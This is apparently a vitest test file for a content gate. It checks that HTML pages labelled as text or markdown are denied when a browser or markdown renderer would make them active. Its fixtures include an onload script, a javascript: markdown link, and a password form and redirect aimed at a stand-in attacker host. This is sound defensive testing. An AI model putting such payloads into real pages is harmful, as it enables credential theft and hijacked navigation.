// An HTML page declared as text (text/plain, text/markdown, application/octet-stream) is judged as a page by every
// consumer that would read it, and allowed when none makes it active (issue 41): HTML has no magic bytes, so DESIGN
// §5's "magic bytes naming a different known type" does not refuse it, and its inert-text clause asks for no HTML
// script. The oracles: Chromium, as a host that opens the file by its name (`.html`) renders it, and marked (GFM), as
// a host that renders the text as markdown does, its html blocks passed through and the prose between them markdown.
import { marked } from 'marked';
import { describe, expect, type TestContext, test } from 'vitest';
import { useChromium } from '../svg-html/chromium-suite.ts';
import { decideBody, profileGate } from './profile-gate.ts';

// the default profile; octet-stream added so that the bytes decide under it
const gate = profileGate(undefined, ['application/octet-stream']);
const chromium = useChromium();
const types = ['text/plain', 'text/markdown', 'application/octet-stream'];
const uris = ['guide://docs/guide.html', 'guide://docs/guide'];

const inertPage =
  '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Guide</title><style>p{color:#333}</style></head>\n' +
  '<body><h1>Guide</h1><p>See <a href="https://example.com/manual">the manual</a>.</p>\n' +
  '<table><tr><td>1</td></tr></table><pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre></body></html>\n';
const activePage = '<!DOCTYPE html>\n<html><body onload="window.__ran=1"><p>Guide</p></body></html>\n';
// inert to a browser (the link is text in a page), a live `javascript:` link to a markdown renderer, which reads the
// prose after the blank line that ends the html block as markdown
const markdownActivePage =
  '<!DOCTYPE html>\n<html><body>\n<div>\n\n[open the guide](javascript:window.__ran=1)\n\n</div>\n</body></html>\n';

// Chromium opens the page as a host that saves `guide.html` and opens it does; true when its script ran by `load`
async function runsInChromium(ctx: TestContext, body: string): Promise<boolean> {
  const browser = chromium.browser();
  if (browser === undefined) return ctx.skip(chromium.skipReason());
  const page = await browser.newPage();
  try {
    await page.route('http://page.test/**', (route) =>
      route.fulfill(
        route.request().url() === 'http://page.test/guide.html'
          ? { contentType: 'text/html', body }
          : { status: 404, body: '' },
      ),
    );
    await page.goto('http://page.test/guide.html', { waitUntil: 'load' });
    return (await page.evaluate('window.__ran === 1')) === true;
  } finally {
    await page.close();
  }
}

describe('an html page declared text', () => {
  test('an inert page is allowed under every text type and name', async (ctx) => {
    expect(await runsInChromium(ctx, inertPage)).toBe(false);
    expect(await marked.parse(inertPage, { gfm: true })).not.toMatch(/javascript:|<script/i);
    for (const mimeType of types)
      for (const uri of uris)
        expect(await decideBody(gate, uri, mimeType, { text: inertPage }), `${uri} ${mimeType}`).toEqual({
          effect: 'allow',
          why: '',
        });
  });

  test('a page a browser runs is denied as active, not as a mismatch', async (ctx) => {
    expect(await runsInChromium(ctx, activePage)).toBe(true);
    for (const mimeType of types)
      for (const uri of uris) {
        const verdict = await decideBody(gate, uri, mimeType, { text: activePage });
        expect(verdict.effect, `${uri} ${mimeType}`).toBe('deny');
        expect(verdict.why).toMatch(/content\.executable/);
        expect(verdict.why).not.toMatch(/content\.mime-mismatch/);
      }
  });

  test('a page whose prose a markdown renderer makes active is denied', async (ctx) => {
    expect(await runsInChromium(ctx, markdownActivePage)).toBe(false);
    expect(await marked.parse(markdownActivePage, { gfm: true })).toMatch(/href="javascript:/);
    for (const mimeType of types)
      for (const uri of uris) {
        const verdict = await decideBody(gate, uri, mimeType, { text: markdownActivePage });
        expect(verdict.effect, `${uri} ${mimeType}`).toBe('deny');
        expect(verdict.why).toMatch(/content\.executable.*javascript:/);
      }
  });

  // reading13 F9: under a text label no markdown renderer reads (csv, json), only the browser would read the page, for
  // script alone; a page that navigates, frames, posts or rebases off-site there is a mismatch, not an allowed text
  test.each([
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/x">'],
    ['an iframe', '<iframe src="https://evil.example/"></iframe>'],
    ['a password form', '<form action="https://evil.example/steal"><input type="password" name="p"></form>'],
    ['a base', '<base href="https://evil.example/">'],
  ])('a page holding %s declared text/csv or json is refused', async (_what, part) => {
    const page = `<!DOCTYPE html>\n<html><head><title>Report</title></head><body>${part}<p>report</p></body></html>\n`;
    for (const mimeType of ['text/csv', 'application/json'])
      for (const uri of ['guide://docs/report.html', 'guide://docs/report']) {
        const verdict = await decideBody(gate, uri, mimeType, { text: page });
        expect(verdict.effect, `${uri} ${mimeType}`).toBe('deny');
      }
  });
});
